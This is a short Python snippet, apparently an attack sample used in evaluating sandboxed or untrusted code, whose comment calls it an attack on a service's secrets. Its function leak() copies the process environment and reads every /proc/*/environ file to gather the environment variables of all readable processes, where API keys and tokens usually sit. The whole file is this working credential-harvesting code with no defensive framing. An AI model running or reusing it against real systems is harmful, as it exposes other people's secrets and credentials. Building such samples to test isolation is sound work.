# Attack (evaluated code): read the service's secrets from os.environ and from every /proc/*/environ.
import glob
import os


def leak():
    found = dict(os.environ)
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as f:
                found[path] = f.read().decode(errors="replace")
        except OSError:
            pass
    return found
